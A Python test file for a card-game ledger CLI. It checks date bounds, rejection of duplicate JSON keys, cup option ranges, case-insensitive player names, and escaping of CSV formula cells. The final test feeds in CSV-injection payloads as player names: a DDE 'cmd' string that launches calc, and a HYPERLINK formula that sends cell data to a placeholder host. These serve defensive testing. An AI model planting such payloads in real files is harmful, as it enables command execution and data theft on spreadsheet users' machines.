"""What the user hands over, read as the user means it, through the commands
a user types:

- every date (--period, --since/--until, --season, the --date of an evening
  or a cup, a cup's season) within bounds and said clearly;
- a JSON object that gives a key twice refused wherever JSON comes in;
- every cup option checked as given, and a cup that no one played worth
  nothing;
- a name one player in any case and Unicode form;
- every CSV cell that a spreadsheet would run as a formula neutralized.

A refusal is one line on stderr, exit status 1, no traceback, no
"unexpected ..." and the ledger as it was: the console script's own guard
says it, so the refusals run through its entry point (``run_cli``)."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest

from tests.helpers import cli, dump
from tests.ledger_checks import PLAYERS, dreier, run_cli


def refused(db: Path, *args: str, words: tuple[str, ...] = (), input: str | None = None) -> str:
    """``schreiber ARGS`` refused: exit 1, one line naming ``words``, nothing written."""
    before = dump(db) if db.exists() else None
    r = run_cli(*args, db=db, input=input)
    assert r.returncode == 1, (args, r.returncode, r.stdout, r.stderr)
    lines = r.stderr.splitlines()
    assert len(lines) == 1 and lines[0].startswith("schreiber: error: "), r.stderr
    assert "Traceback" not in r.stderr and "unexpected" not in r.stderr, r.stderr
    for w in words:
        assert w in lines[0], (w, lines[0])
    assert (dump(db) if db.exists() else None) == before
    return lines[0]


def ok(db: Path, *args: str) -> str:
    r = cli("--db", str(db), *args)
    assert r.exit_code == 0, (args, r.output, r.exception)
    return r.stdout


def evening(db: Path, players=PLAYERS, *extra: str) -> None:
    ok(db, "evening", "start", *players, *extra)
    ok(db, "hand", "add", "--json", json.dumps(dreier(players[1], 40)))


# 13. Dates ---------------------------------------------------------------------------------

LONG = "9" * 5000
DATES = [
    (["stats", "--period", "last 1000000 days"], ["'last 1000000 days' is out of range", "N from 1 to"]),
    (["stats", "--period", f"last {LONG} days"], ["is out of range", "N from 1 to"]),
    (["stats", "--period", "last 0 days"], ["is out of range", "N from 1 to"]),
    (["stats", "--period", "last ² days"], ["'last ² days' is not known", "last N days"]),
    (["stats", "--period", "last ３ days"], ["is not known", "last N days"]),
    (["chart", "--period", "past 99999999999 days"], ["is out of range"]),
    (["export", "--period", "last 800000 days"], ["is out of range"]),
    (["stats", "--since", "0001-01-01"], ["--since '0001-01-01' is out of range", "1900-01-01 to 2199-12-31"]),
    (["stats", "--until", "9999-12-31"], ["--until '9999-12-31' is out of range"]),
    (["stats", "--since", "10000-01-01"], ["--since '10000-01-01' is not a date", "YYYY-MM-DD"]),
    (["stats", "--since", "２０２６-01-01"], ["is not a date"]),
    (["stats", "--since", "2026-02-30"], ["is not a date"]),
    (["stats", "--season", "2026/28"], ["season '2026/28' is not a season", "2026/27"]),
    (["stats", "--season", "２０２６"], ["is not a season"]),
    (["stats", "--season", "0000"], ["season '0000' is out of range", "1900 to 2199"]),
    (["stats", "--season", "9999/00"], ["is out of range"]),
    (["stats", "--season", "1899/00"], ["is out of range", "1900/01 to 2198/99"]),
    (["chart", "--season", "99999"], ["is not a season"]),
    (["evening", "start", *PLAYERS, "--date", "0001-01-01"], ["--date '0001-01-01' is out of range"]),
    (["evening", "start", *PLAYERS, "--date", "1"], ["--date '1' is not a date"]),
    (["evening", "start", *PLAYERS, "--date", "2026-W47"], ["is not a date"]),
    (["evening", "start", *PLAYERS, "--date", "Nov 21 2026"], ["is not a date"]),
    (["cup", "start", "C", *"ABCDEFGH", "--date", "20266-01-01"], ["--date '20266-01-01' is not a date"]),
    (["cup", "start", "C", *"ABCDEFGH", "--date", "1850-06-01"], ["is out of range"]),
    (["cup", "start", "C", *"ABCDEFGH", "--season", "x"], ["season 'x' is not a season"]),
    (["cup", "start", "C", *"ABCDEFGH", "--season", "2026/28"], ["season '2026/28' is not a season"]),
    (["cup", "start", "C", *"ABCDEFGH", "--season", "2199/2200"], ["is out of range"]),
    (["cup", "season", "--season", "2026/2028"], ["is not a season"]),
    (["stats", "--since", ""], ["--since '' is not a date"]),  # given empty: said, not left out
    (["chart", "--season", ""], ["season '' is not a season"]),
    (["export", "--period", " "], ["period ' ' is not known"]),
    (["evening", "start", *PLAYERS, "--date", ""], ["--date '' is not a date"]),
]


@pytest.mark.parametrize("args,words", DATES, ids=[" ".join(a)[:50] for a, _w in DATES])
def test_dates_are_bounded_and_said_clearly(tmp_path, args, words):
    db = tmp_path / "ledger.db"
    evening(db)
    ok(db, "cup", "start", "Old", *"ABCDEFGH", "--seed", "1")
    refused(db, *args, words=tuple(words))


def test_a_season_that_existed_is_read(tmp_path):
    """1999/00 ran from September 1999 to August 2000; a cup keeps a season as 2026/27 however written."""
    db = tmp_path / "ledger.db"
    evening(db, PLAYERS, "--date", "1999-10-02")
    evening(db, PLAYERS, "--date", "21.5.2000")  # as written in Austria
    for season in ("1999/00", "1999/2000", "1999-00"):
        assert json.loads(ok(db, "stats", "--json", "--season", season))["evenings"] == 2, season
    assert json.loads(ok(db, "stats", "--json", "--period", "last 2 days"))["evenings"] == 0
    assert json.loads(ok(db, "stats", "--json", "--since", "1900-01-01", "--until", "1999-12-31"))["evenings"] == 1
    ok(db, "cup", "start", "Jahrtausend", *"ABCDEFGH", "--season", "1999/2000", "--seed", "1")
    ok(db, "cup", "start", "Heuer", *"ABCDEFGH", "--season", "2026-27", "--date", "2026-11-20", "--seed", "1")
    cups = json.loads(ok(db, "cup", "list", "--json"))
    assert [(c["name"], c["season"]) for c in cups] == [("Heuer", "2026/27"), ("Jahrtausend", "1999/00")]
    assert json.loads(ok(db, "cup", "season", "--season", "2026/2027", "--json"))["season"] == "2026/27"


# 15. A key given twice -----------------------------------------------------------------------

RUFER = '{"contract": "rufer", "declarer": "Berti", "partner": "Carl", '
TWICE = [
    (RUFER + '"result": "won", "result": "lost"}', "result"),
    (RUFER + '"result": "won", "\\u0072esult": "lost"}', "result"),  # the same key, escaped
    (
        RUFER + '"points": 61, "premiums": [{"name": "pagat", "announced": true, "result": "won", "result": "lost"}]}',
        "result",
    ),
    ('{"contract": "piccolo", "declarer": "Carl", "tricks": 1, "kontra": {"Dora": "kontra", "Dora": "re"}}', "Dora"),
    ('{"contract": "trischaken", "scores": {"Anna": 20, "Berti": 15, "Carl": 25, "Dora": 10, "Anna": 0}}', "Anna"),
    ('{"contract": "dreier", "declarer": "Anna", "declarer": "Berti", "points": 40}', "declarer"),
]


@pytest.mark.parametrize("text,key", TWICE, ids=[f"{k}-{i}" for i, (_t, k) in enumerate(TWICE)])
def test_a_key_given_twice_is_refused_in_every_json_input(tmp_path, text, key):
    db = tmp_path / "ledger.db"
    evening(db)
    said = f'"{key}" twice'
    refused(db, "hand", "add", "--json", text, words=(said,))
    refused(db, "hand", "add", "--json", "-", input=text, words=(said,))
    refused(db, "hand", "edit", "1", "--json", text, words=(said,))
    src = tmp_path / "hands.jsonl"
    src.write_text(json.dumps(dreier("Anna", 40)) + "\n" + text + "\n" + json.dumps(dreier("Carl", 50)) + "\n")
    refused(db, "hand", "import", str(src), words=("1 bad line", f'line 2: "{key}" is given twice'))
    exported = json.dumps({"id": "a1", "dealer": "Anna", "record": json.loads(text)})[:-1] + ', "dealer": "Berti"}'
    src.write_text(exported + "\n")
    refused(db, "hand", "import", str(src), words=('line 1: "dealer" is given twice',))


def test_the_hand_record_is_given_with_record_and_still_with_json(tmp_path):
    """``--record`` takes the hand record on hand add and hand edit; ``--json``,
    its earlier name (scripts, interface.md), does the same, not shown in the
    help; both at once is refused."""
    db = tmp_path / "ledger.db"
    evening(db)  # hand 1, given with --json
    ok(db, "hand", "add", "--record", json.dumps(dreier("Carl", 50)))
    ok(db, "hand", "edit", "1", "--record", json.dumps(dreier("Dora", 30)))
    r = cli("--db", str(db), "hand", "add", "--record", "-", input=json.dumps(dreier("Anna", 41)))
    assert r.exit_code == 0, r.output
    hands = [h for h in json.loads(ok(db, "sheet", "--json"))["hands"] if not h["void"]]
    assert [(h["number"], h["declarer"]) for h in hands] == [(1, "Dora"), (2, "Carl"), (3, "Anna")]
    refused(db, "hand", "add", "--record", "{}", "--json", "{}", words=("--record", "--json is its old name"))
    refused(db, "hand", "add", "dreier", "anna", "+", "--record", "{}", words=("--record, not both",))
    for command in ("add", "edit"):
        page = ok(db, "hand", command, "--help")
        assert "--record JSON" in page and "--json" not in page.replace("--json-out", "")


# 16. Cup options ------------------------------------------------------------------------------

CUP_OPTIONS = [
    (["--hands", "100"], ["--hands 100 is out of range", "1 to 80"]),
    (["--hands", "0"], ["--hands 0 is out of range"]),
    (["--hands", "-1"], ["--hands -1 is out of range"]),
    (["--hands", "99999999999999999999"], ["--hands 99999999999999999999 is out of range"]),
    (["--hands", "101", "--rule", "cup_hands_five=100"], ["--hands 101 is out of range; give 1 to 100"]),
    (["--rounds", "0"], ["--rounds 0 is out of range; give 1 to 6"]),
    (["--rounds", "7"], ["--rounds 7 is out of range"]),
    (["--rounds", "99999999999999999999"], ["--rounds 99999999999999999999 is out of range"]),
    (["--season", "x"], ["season 'x'"]),
    (["--season", "2026/28"], ["season '2026/28'"]),
]


@pytest.mark.parametrize("extra,words", CUP_OPTIONS, ids=[" ".join(e) for e, _w in CUP_OPTIONS])
def test_cup_options_are_checked_as_given(tmp_path, extra, words):
    db = tmp_path / "ledger.db"
    evening(db)
    line = refused(db, "cup", "start", "Cup", *"ABCDEFGH", *extra, words=tuple(words))
    assert "cup_hands" not in line and "cup_rounds" not in line  # keys the user never gave


def test_cup_hands_and_rounds_as_given(tmp_path):
    db = tmp_path / "ledger.db"
    ok(db, "cup", "start", "Lang", *"ABCDEFGH", "--hands", "80", "--rounds", "6", "--seed", "1")
    ok(db, "cup", "start", "Kurz", *"ABCDEFGH", "--hands", "100", "--rule", "cup_hands_five=100", "--seed", "1")
    con = sqlite3.connect(db)
    assert con.execute("select name, rounds, hands, hands_five from cups order by id").fetchall() == [
        ("Lang", 6, 80, 100),
        ("Kurz", 3, 100, 100),
    ]
    con.close()


def test_a_cup_without_a_played_hand_gives_no_cup_points(tmp_path):
    """Drawn is not played: no cup points, no result, no round played, until a hand is."""
    db = tmp_path / "ledger.db"
    ok(db, "cup", "start", "Leer", *"ABCDEFGH", "--seed", "1")
    ok(db, "cup", "draw")
    standings = json.loads(ok(db, "cup", "standings", "--json"))
    assert standings["rounds_played"] == 0
    assert {p["cup_points"] for p in standings["players"]} == {0}
    assert json.loads(ok(db, "cup", "season", "--json"))["players"] == []
    seated = json.loads(ok(db, "cup", "status", "--json"))["tables"][0]
    ok(db, "hand", "add", "--evening", str(seated["evening"]), "--json", json.dumps(dreier(seated["players"][1], 40)))
    standings = json.loads(ok(db, "cup", "standings", "--json"))
    assert standings["rounds_played"] == 1 and standings["players"][0]["cup_points"] == 223
    assert standings["players"][0]["name"] == seated["players"][1]
    season = json.loads(ok(db, "cup", "season", "--json"))["players"]
    assert sorted(p["name"] for p in season) == sorted(seated["players"])  # those who played a hand


# 17. One player by name, in any case --------------------------------------------------------


def players(db: Path) -> list[str]:
    con = sqlite3.connect(db)
    try:
        return [n for (n,) in con.execute("select name from players order by id")]
    finally:
        con.close()


def test_a_name_in_any_case_is_one_player_everywhere(tmp_path):
    db = tmp_path / "ledger.db"
    evening(db, ("Anna", "Berti", "Jürgen", "Dora"))
    ok(db, "evening", "start", "ANNA", "berti", "JU\u0308RGEN", "dora", "--dealer", "BERTI")
    assert json.loads(ok(db, "evening", "list", "--json"))[-1]["players"] == ["Anna", "Berti", "Jürgen", "Dora"]
    ok(db, "hand", "add", "--json", json.dumps(dreier("anna", 40)))
    ok(db, "cup", "start", "Cup", "anna", "BERTI", "jürgen", "DORA", *"EFGH", "--seed", "1")
    assert players(db)[:4] == ["Anna", "Berti", "Jürgen", "Dora"] and len(players(db)) == 8
    stats = json.loads(ok(db, "stats", "--json"))["players"]
    assert stats["Anna"]["evenings"] == 2 and "ANNA" not in stats and "anna" not in stats
    assert "Anna" in ok(db, "chart", "--period", "all", "--player", "ANNA", "--player", "ju\u0308rgen")
    ok(db, "player", "rename", "anna", "ANNA")  # the same player, spelt anew
    assert players(db)[0] == "ANNA"
    refused(db, "player", "rename", "berti", "anna", words=("already a player called ANNA",))
    refused(db, "evening", "start", "Anna", "anna", "Carl", "Dora", words=("listed twice",))
    refused(db, "cup", "start", "Cup2", "Emil", "EMIL", *"ABCDEF", words=("registered twice",))


def test_two_players_of_one_name_in_an_older_ledger(tmp_path):
    """A ledger written before names were one by their case may keep "Anna"
    and "anna" as two players: they stay two, every figure as it was and
    check clean; a name that is neither as typed is asked for as kept."""
    from schreiber.ledger.store import Ledger

    db = tmp_path / "ledger.db"
    evening(db, ("Anna", "Berti", "Carl", "Dora"))
    evening(db, ("Xaver", "Berti", "Carl", "Dora"))
    led = Ledger(db)
    with led.transaction():
        led.rename_player("Xaver", "anna")  # as an older schreiber could store it
    led.close()
    figures = [ok(db, *a) for a in (["stats", "--json"], ["balance", "--json"], ["export", "--format", "jsonl"])]
    assert "ok" in ok(db, "check")
    refused(db, "evening", "start", "ANNA", "Berti", "Carl", "Dora", words=("'ANNA' could be Anna or anna",))
    refused(db, "player", "rename", "ANNA", "Hanna", words=("'ANNA' could be Anna or anna",))
    ok(db, "evening", "start", "anna", "Berti", "Carl", "Dora")  # as kept: that player
    assert players(db) == ["Anna", "Berti", "Carl", "Dora", "anna"]
    assert [ok(db, *a) for a in (["stats", "--json"], ["export", "--format", "jsonl"])] == [figures[0], figures[2]]
    assert ok(db, "balance", "--json", "--evening", "2") == figures[1]
    assert "ok" in ok(db, "check")


def test_merge_takes_a_name_in_another_case_for_the_same_player(tmp_path):
    """Another ledger that writes the player otherwise: a conflict naming
    him, nothing merged; once renamed there, the merge brings him as one."""
    ours, theirs = tmp_path / "ours.db", tmp_path / "tisch.db"
    evening(ours, ("Anna", "Berti", "Carl", "Dora"))
    evening(theirs, ("anna", "Berti", "Carl", "Dora"), "--date", "2026-11-20")  # another evening than ours
    refused(ours, "merge", str(theirs), words=("player Anna", "calls this player anna", "player rename"))
    ok(theirs, "player", "rename", "anna", "Anna")
    ok(ours, "merge", str(theirs))
    assert players(ours) == ["Anna", "Berti", "Carl", "Dora"]
    assert json.loads(ok(ours, "stats", "--json"))["players"]["Anna"]["evenings"] == 2


# 18. CSV a spreadsheet would run -------------------------------------------------------------

HOSTILE = ("=cmd|' /C calc'!A0", "+Berti", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _runs_as_formula(c: str) -> bool:
    return c.lstrip(" \n")[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(
        r"[+-]?[0-9]+(\.[0-9]+|/[0-9]+)?|-", c
    )


def test_csv_cells_a_spreadsheet_would_run_are_text(tmp_path):
    db = tmp_path / "ledger.db"
    ok(db, "evening", "start", "--", *HOSTILE)
    for i, name in enumerate(HOSTILE):
        ok(db, "hand", "add", "--json", json.dumps(dreier(name, 30 + 10 * i)))
    hyperlink = 'Anna@=HYPERLINK("http://x.example/?"&A1)'
    ok(db, "cup", "start", "Cup", "--seed", "1", "--", hyperlink, "-Berti@+Linz", *"CDEFGH")
    table = json.loads(ok(db, "cup", "draw", "--json"))["tables"][0]
    ok(db, "hand", "add", "--evening", str(table["evening"]), "--json", json.dumps(dreier(table["players"][1], 40)))
    outputs = [ok(db, "sheet", "--csv", "--evening", "1"), ok(db, "cup", "standings", "--csv")]
    outputs += [ok(db, "stats", "--csv", "--table", t) for t in ("leaderboard", "players", "partners", "opponents")]
    outputs += [ok(db, "export", "--format", "csv", "--what", w) for w in ("hands", "items", "payments")]
    outputs.append(ok(db, "cup", "season", "--csv"))
    cells = [c for text in outputs for c in _cells(text)]
    assert not [c for c in cells if _runs_as_formula(c)]
    for name in (*HOSTILE, '=HYPERLINK("http://x.example/?"&A1)', "+Linz", "-Berti"):
        assert "'" + name in cells, name
    points = [r["points"] for r in csv.DictReader(io.StringIO(outputs[2]))]  # figures stay numbers
    assert points[0] == "+12" and points[-1] == "-24" and all(re.fullmatch(r"[+-][0-9]+|0", p) for p in points)
    payments = list(csv.DictReader(io.StringIO(outputs[-2])))
    assert {r["points"] for r in payments} >= {"-4", "12"} and "'-4" not in {r["points_exact"] for r in payments}
